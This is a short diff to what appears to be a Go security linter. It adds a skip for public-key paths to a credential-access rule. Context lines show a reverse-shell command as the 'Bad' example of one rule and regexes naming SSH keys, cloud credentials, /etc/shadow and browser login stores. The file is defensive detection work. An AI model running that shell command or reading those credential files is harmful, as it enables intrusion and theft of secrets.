@@ -142,6 +142,7 @@ func init() {
 				Fix: "Remove it.", Bad: "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", Good: "ssh user@host (an explicit, authenticated session)"}},
 		&secRule{id: rules.SecurityCredentialAccess, sev: codeFirst,
 			mention: credentialSetting,
+			skip:    publicKeyPath,
 			pats: []string{`~/\.ssh/(id_[a-z0-9]+|[\w.-]*key[\w.-]*)\b`, `\bid_(rsa|dsa|ecdsa|ed25519)\b(?:[^.]|$)`, `\.aws/credentials\b`, `\.kube/config\b`, `(^|[\s"'/~])\.netrc\b`,
 				`\.git-credentials\b`, `\bsecurity\s+(find|dump)-(generic|internet)-password\b`, `\blogin\.keychain\b`, `/etc/shadow\b`,
 				`(Chrome|Chromium|Edge|Brave)[^\n]*/Login Data\b`, `\b(logins\.json|key[34]\.db)\b`, `\.config/gcloud/(credentials|application_default_credentials)`, `\.docker/config\.json\b`,
